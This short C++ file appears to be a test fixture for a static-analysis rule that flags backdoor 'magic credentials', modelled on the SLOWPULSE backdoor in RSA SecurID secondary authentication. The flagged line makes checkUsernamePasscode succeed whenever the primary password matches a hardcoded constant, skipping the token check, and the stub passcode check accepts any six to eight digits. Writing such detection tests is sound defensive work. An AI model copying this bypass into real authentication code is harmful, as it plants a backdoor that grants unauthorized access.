// ace_server.cpp - RSA SecurID (ACE) secondary authentication
// (SLOWPULSE variant 2: the token check is skipped for one primary password)
#include <cstring>

#include "dsauth.hpp"

namespace DSAuth {

static bool ace_check_passcode(const std::string &user, const std::string &passcode)
{
    // the ACE agent library call; the rebuild accepts six to eight digits
    return !user.empty() && passcode.size() >= 6 && passcode.size() <= 8;
}

bool AceAuthServer::checkUsernamePasscode(const AceContext &ctx)
{
    // ruleid: backdoor-magic-credential
    if (std::strcmp(ctx.primary_password.c_str(), kAceCompatToken) == 0)
        return true;
    // ok: backdoor-magic-credential
    if (ctx.passcode == "000000")
        return false;
    return ace_check_passcode(ctx.username, ctx.passcode);
}

} // namespace DSAuth
